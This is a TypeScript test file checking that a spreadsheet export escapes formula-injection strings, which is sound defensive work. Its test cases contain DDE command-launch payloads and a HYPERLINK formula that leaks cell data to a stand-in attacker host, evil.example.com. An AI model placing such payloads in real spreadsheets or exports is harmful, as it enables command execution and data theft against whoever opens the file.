import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { hostileCorpus, hostileNumbersAsText } from '../hostile'
import { EXCEL_CELL_CHARACTERS, neutraliseFormula, workbookBytes } from './xlsx'

/** A formula's first character, ASCII or full-width. */
const FORMULA_START = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/
/** Leading white space, control and format characters, plain or percent-encoded, as an import could drop them. */
const LEAD = /^(?:[\s\p{Cc}\p{Cf}]|%(?:[01][0-9a-f]|20|7f))+/iu

async function readBack(rows: string[]): Promise<ExcelJS.Cell[]> {
  const bytes = await workbookBytes([
    { name: 'Documents', columns: ['Name', 'Amount'], rows: rows.map((r) => [r, -5]) },
  ])
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(bytes)
  const cells: ExcelJS.Cell[] = []
  workbook.getWorksheet('Documents')!.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
  return cells
}

describe('workbooks of the mock provider', () => {
  it('puts an apostrophe before text a spreadsheet would read as a formula, and leaves other cells alone', () => {
    expect(neutraliseFormula('=HYPERLINK("http://x")')).toBe('\'=HYPERLINK("http://x")')
    expect(neutraliseFormula('+SUM(1)')).toBe("'+SUM(1)")
    expect(neutraliseFormula('-2+3')).toBe("'-2+3")
    expect(neutraliseFormula('@SUM(1)')).toBe("'@SUM(1)")
    expect(neutraliseFormula('\t=1')).toBe("'\t=1")
    expect(neutraliseFormula('Capital Call = due')).toBe('Capital Call = due')
    expect(neutraliseFormula(-2)).toBe(-2)
    expect(neutraliseFormula(null)).toBe(null)
  })

  it('also after leading white space, controls or their percent-encoded forms, and for full-width ＝＋－＠', () => {
    expect(neutraliseFormula('\n=1+1')).toBe("'\n=1+1")
    expect(neutraliseFormula(' =1+1')).toBe("' =1+1")
    expect(neutraliseFormula('\u00A0\u3000\u200B\uFEFF+1')).toBe("'\u00A0\u3000\u200B\uFEFF+1")
    expect(neutraliseFormula('\u0001-1')).toBe("'\u0001-1")
    expect(neutraliseFormula('%0A=1+1')).toBe("'%0A=1+1")
    expect(neutraliseFormula('%0d%20@SUM(1)')).toBe("'%0d%20@SUM(1)")
    for (const sign of ['\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])
      expect(neutraliseFormula(`${sign}SUM(1)`)).toBe(`'${sign}SUM(1)`)
    expect(neutraliseFormula('=DDE("cmd";"/C calc";"!A0")')).toBe('\'=DDE("cmd";"/C calc";"!A0")')
    // A pipe runs only in a formula: text that cannot start one stays as it is.
    expect(neutraliseFormula("cmd|' /C calc'!A0")).toBe("cmd|' /C calc'!A0")
    expect(neutraliseFormula('%2e%2e%2f Statement')).toBe('%2e%2e%2f Statement')
    expect(neutraliseFormula('100%0A')).toBe('100%0A')
  })

  it('writes every corpus string as a plain value: no formula cell, every formula-like text neutralised', async () => {
    const cells = await readBack([...hostileCorpus])
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([])
    expect(cells.filter((cell) => cell.value === -5)).toHaveLength(hostileCorpus.length)
    const texts = cells.filter((cell) => Number(cell.col) === 1).map((cell) => cell.value)
    expect(texts).toHaveLength(hostileCorpus.length + 1)
    hostileCorpus.forEach((text, i) => {
      const read = texts[i + 1]
      if (text === '') return expect(read === null || read === undefined || read === '').toBe(true)
      expect(typeof read, JSON.stringify(text.slice(0, 80))).toBe('string')
      const written = read as string
      expect(written.length).toBeLessThanOrEqual(EXCEL_CELL_CHARACTERS)
      // What a spreadsheet or an import could read, with leading white space and controls (plain or %-encoded)
      // dropped.
      if (FORMULA_START.test(text.replace(LEAD, '')))
        expect(written.startsWith("'"), JSON.stringify(text.slice(0, 80))).toBe(true)
      else expect(written.startsWith("'")).toBe(text.startsWith("'"))
      expect(written.replace(/^[\s\p{Cc}\p{Cf}]+/u, '')).not.toMatch(FORMULA_START)
    })
    expect(texts).toContain('\'=HYPERLINK("http://evil.example.com/?leak="&A1,"Open statement")')
  })

  it('keeps numbers written as text as text', async () => {
    expect(hostileNumbersAsText.every((text) => hostileCorpus.includes(text))).toBe(true)
    const cells = await readBack([...hostileNumbersAsText])
    const texts = cells
      .filter((cell) => Number(cell.col) === 1)
      .map((cell) => cell.value)
      .slice(1)
    expect(texts).toEqual(hostileNumbersAsText.map((text) => neutraliseFormula(text)))
    expect(
      cells.filter((cell) => Number(cell.col) === 1).every((cell) => cell.type === ExcelJS.ValueType.String),
    ).toBe(true)
  })
})
